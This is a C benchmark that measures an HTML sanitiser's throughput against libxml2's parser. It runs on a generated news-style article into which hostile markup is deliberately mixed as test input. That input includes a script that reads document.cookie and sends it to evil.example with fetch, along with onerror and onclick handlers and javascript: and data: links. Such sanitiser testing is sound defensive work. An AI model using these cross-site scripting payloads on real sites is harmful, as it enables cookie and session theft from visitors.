/* HTML sanitiser throughput: a generated 100 KB article (paragraphs, links, images with
 * srcset, figures, lists, a table, blockquotes, Hangul, entities, and the hostile parts feeds
 * carry: <script>, <style>, on* handlers, javascript: links, YouTube iframes) sanitised over
 * and over, beside the reference measured in the same process on the same bytes: libxml2's
 * HTML parser alone (htmlReadMemory, then xmlFreeDoc), what any sanitiser built on it pays
 * before doing anything. Both are timed in alternating blocks on the thread's CPU clock and
 * the best block of each counts, so other work on a shared machine disturbs the figures as
 * little as it can. Fails below 50 MB/s (issue 11). For what bounds the sanitiser, also
 * printed: libxml2's tokenizer alone, SAX with handlers that do nothing and one parser
 * context reused, which is all the sanitiser asks of libxml2.
 * Options: --rounds N (default 1000), --size KB (default 100). */

#define G_LOG_DOMAIN "bench-html"

#include "config.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>

#include <libxml/HTMLparser.h>
#include <time.h>

#include "drama-html.h"

#define TARGET_MB_PER_S 50.0
#define BLOCKS 25

/* xorshift64*: small, fast and the same everywhere, so runs compare. */
static guint64 rng_state = 88172645463325252ULL;

static guint64
rng_next (void)
{
  rng_state ^= rng_state >> 12;
  rng_state ^= rng_state << 25;
  rng_state ^= rng_state >> 27;
  return rng_state * 2685821657736338717ULL;
}

static guint
rng_below (guint n)
{
  return (guint) (rng_next () % n);
}

static const char * const words[] = {
  "the", "drama", "actor", "actress", "episode", "ratings", "fans", "viewers", "filming",
  "cast", "director", "character", "story", "love", "romance", "series", "star", "role",
  "premiere", "teaser", "poster", "variety", "comeback", "stage", "interview", "photos",
  "revealed", "shared", "smiled", "laughed", "final", "upcoming", "special", "sweet", "of",
  "and", "in", "with", "for", "on", "at", "about", "after", "before", "while", "their",
  "천사의", "마지막", "미션", "사랑", "드라마", "배우", "신혜선", "김명수", "café", "naïve",
  "&amp;", "&nbsp;", "&#8220;quoted&#8221;", "&hellip;", "&lt;3",
};

static void
append_words (GString *s,
              guint    n)
{
  for (guint i = 0; i < n; i++)
    {
      if (i > 0)
        g_string_append_c (s, ' ');
      g_string_append (s, words[rng_below (G_N_ELEMENTS (words))]);
    }
}

/* One block of article HTML, chosen at random with weights close to a real news article:
 * mostly paragraphs, now and then an image, a video, a list, a quote or something hostile. */
static void
append_block (GString *s,
              guint    n)
{
  guint kind = rng_below (20);

  switch (kind)
    {
    case 0:
      g_string_append_printf (s, "<figure class=\"wp-block-image\"><img src=\"/uploads/2019/05/%u.jpg\" "
                              "srcset=\"/uploads/%u-300.jpg 300w, /uploads/%u-1024.jpg 1024w\" "
                              "sizes=\"(max-width: 640px) 100vw, 640px\" width=\"640\" height=\"360\" "
                              "alt=\"Still %u\" loading=\"lazy\" onerror=\"alert(1)\">"
                              "<figcaption>", n, n, n, n);
      append_words (s, 6);
      g_string_append (s, "</figcaption></figure>\n");
      break;
    case 1:
      g_string_append_printf (s, "<iframe width=\"560\" height=\"315\" "
                              "src=\"https://www.youtube.com/embed/dQw4w9WgX%02u\" frameborder=\"0\" "
                              "allow=\"autoplay; encrypted-media\" allowfullscreen></iframe>\n", n % 100);
      break;
    case 2:
      g_string_append (s, "<script type=\"text/javascript\">var x = document.cookie; "
                       "fetch('https://evil.example/?' + x);</script>\n"
                       "<style>body { background: url(javascript:alert(1)) }</style>\n");
      break;
    case 3:
      g_string_append (s, "<ul>");
      for (guint i = 0; i < 4; i++)
        {
          g_string_append (s, "<li>");
          append_words (s, 5 + rng_below (6));
          g_string_append (s, "</li>");
        }
      g_string_append (s, "</ul>\n");
      break;
    case 4:
      g_string_append (s, "<blockquote class=\"twitter-tweet\"><p lang=\"ko\" dir=\"ltr\">");
      append_words (s, 15);
      g_string_append_printf (s, "</p>&mdash; Fan (@fan%u) <a href=\"https://twitter.com/fan/status/%u\">"
                              "May 22, 2019</a></blockquote>\n", n, n);
      break;
    case 5:
      g_string_append (s, "<table><thead><tr><th>Episode</th><th>Rating</th></tr></thead><tbody>");
      for (guint i = 1; i <= 4; i++)
        g_string_append_printf (s, "<tr><td>%u</td><td style=\"color:red\">%u.%u%%</td></tr>",
                                i, rng_below (20), rng_below (10));
      g_string_append (s, "</tbody></table>\n");
      break;
    case 6:
      g_string_append (s, "<p onclick=\"steal()\" style=\"position:fixed\">");
      append_words (s, 12);
      g_string_append (s, " <a href=\"javascript:alert(document.domain)\">click</a> "
                       "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">data</a></p>\n");
      break;
    case 7:
      g_string_append (s, "<h2>");
      append_words (s, 5);
      g_string_append (s, "</h2>\n");
      break;
    default:
      g_string_append (s, "<p>");
      append_words (s, 20 + rng_below (40));
      g_string_append_printf (s, " <a href=\"/2019/05/%u/story\" target=\"_blank\" rel=\"noopener\">", n);
      append_words (s, 3);
      g_string_append (s, "</a>, <strong>");
      append_words (s, 2);
      g_string_append (s, "</strong> <em>");
      append_words (s, 3);
      g_string_append (s, "</em>");
      append_words (s, 10 + rng_below (20));
      g_string_append (s, ".</p>\n");
      break;
    }
}

static GString *
generate_article (gsize size)
{
  GString *s = g_string_sized_new (size + 4096);
  guint n = 0;

  g_string_append (s, "<div class=\"entry-content\">\n");
  while (s->len < size - 16)
    append_block (s, n++);
  g_string_append (s, "</div>\n");
  return s;
}

static long
peak_rss_kb (void)
{
  struct rusage usage;

  getrusage (RUSAGE_SELF, &usage);
  return usage.ru_maxrss;
}

static double
thread_cpu_seconds (void)
{
  struct timespec ts;

  clock_gettime (CLOCK_THREAD_CPUTIME_ID, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static const char base_url[] = "https://news.example.com/2019/05/22/article/";

static double
time_sanitiser (const GString *article,
                guint          rounds)
{
  double start = thread_cpu_seconds ();

  for (guint r = 0; r < rounds; r++)
    g_free (drama_html_sanitize (article->str, base_url));
  return thread_cpu_seconds () - start;
}

static double
time_libxml2 (const GString *article,
              guint          rounds)
{
  double start = thread_cpu_seconds ();

  for (guint r = 0; r < rounds; r++)
    {
      htmlDocPtr doc = htmlReadMemory (article->str, (int) article->len, NULL, "UTF-8",
                                       HTML_PARSE_RECOVER | HTML_PARSE_NONET |
                                       HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING);

      xmlFreeDoc (doc);
    }
  return thread_cpu_seconds () - start;
}

static void
ignore_element (void           *user_data,
                const xmlChar  *name,
                const xmlChar **atts)
{
}

static void
ignore_characters (void          *user_data,
                   const xmlChar *text,
                   int            len)
{
}

static double
time_libxml2_tokenizer (const GString     *article,
                        guint              rounds,
                        htmlParserCtxtPtr  ctxt)
{
  double start = thread_cpu_seconds ();

  for (guint r = 0; r < rounds; r++)
    {
      htmlDocPtr doc = htmlCtxtReadMemory (ctxt, article->str, (int) article->len, NULL, "UTF-8",
                                           HTML_PARSE_RECOVER | HTML_PARSE_NONET |
                                           HTML_PARSE_NOERROR | HTML_PARSE_NOWARNING);

      xmlFreeDoc (doc);
    }
  return thread_cpu_seconds () - start;
}

int
main (int   argc,
      char *argv[])
{
  g_autoptr(GString) article = NULL;
  g_autofree char *first = NULL;
  guint rounds = 1000, block_rounds;
  gsize size_kb = 100, out_len;
  double best_ours = G_MAXDOUBLE, best_libxml2 = G_MAXDOUBLE, best_tokenizer = G_MAXDOUBLE;
  double mb, ours, libxml2;
  htmlParserCtxtPtr tokenizer = htmlNewParserCtxt ();

  for (int i = 1; i < argc; i++)
    {
      if (g_str_equal (argv[i], "--rounds") && i + 1 < argc)
        rounds = (guint) atoi (argv[++i]);
      else if (g_str_equal (argv[i], "--size") && i + 1 < argc)
        size_kb = (gsize) atoi (argv[++i]);
    }
  rounds = MAX (BLOCKS, rounds);
  size_kb = MAX (1, size_kb);
  block_rounds = rounds / BLOCKS;

  article = generate_article (size_kb * 1024);
  mb = article->len / (1024.0 * 1024.0);

  /* Once first, so the figures below are the steady state and the output is checked:
   * a sanitiser that is fast because it keeps nothing is not the one we want to time. */
  first = drama_html_sanitize (article->str, base_url);
  out_len = strlen (first);
  if (out_len < article->len / 4 || strstr (first, "<script") != NULL ||
      strstr (first, "javascript:") != NULL)
    {
      printf ("html: FAIL: the sanitised article looks wrong (%zu of %zu bytes kept)\n",
              out_len, article->len);
      return 1;
    }
  time_libxml2 (article, 1);
  tokenizer->sax->startElement = ignore_element;
  tokenizer->sax->endElement = NULL;
  tokenizer->sax->characters = ignore_characters;
  tokenizer->sax->cdataBlock = ignore_characters;
  tokenizer->sax->comment = NULL;

  for (guint b = 0; b < BLOCKS; b++)
    {
      best_ours = MIN (best_ours, time_sanitiser (article, block_rounds) / block_rounds);
      best_libxml2 = MIN (best_libxml2, time_libxml2 (article, block_rounds) / block_rounds);
      best_tokenizer = MIN (best_tokenizer,
                            time_libxml2_tokenizer (article, block_rounds, tokenizer) / block_rounds);
    }
  htmlFreeParserCtxt (tokenizer);
  ours = mb / best_ours;
  libxml2 = mb / best_libxml2;

  printf ("html: a %.1f KB article (%zu bytes out), %u rounds in %u blocks, best block, CPU time\n",
          article->len / 1024.0, out_len, block_rounds * BLOCKS, BLOCKS);
  printf ("html: sanitiser %.1f MB/s (%.3f ms per article); libxml2 htmlReadMemory alone "
          "%.1f MB/s (%.3f ms); ratio %.2f\n",
          ours, best_ours * 1000.0, libxml2, best_libxml2 * 1000.0, ours / libxml2);
  printf ("html: bound: libxml2's tokenizer alone (SAX, no tree, context reused) %.1f MB/s; "
          "the sanitiser runs at %.2f of it\n", mb / best_tokenizer, best_tokenizer / best_ours);
  printf ("html: peak RSS %.1f MB\n", peak_rss_kb () / 1024.0);

  if (ours < TARGET_MB_PER_S)
    {
      printf ("html: FAIL: target missed: sanitising must run at %.0f MB/s or more\n",
              TARGET_MB_PER_S);
      return 1;
    }
  printf ("html: target met: %.1f MB/s >= %.0f MB/s\n", ours, TARGET_MB_PER_S);
  return 0;
}
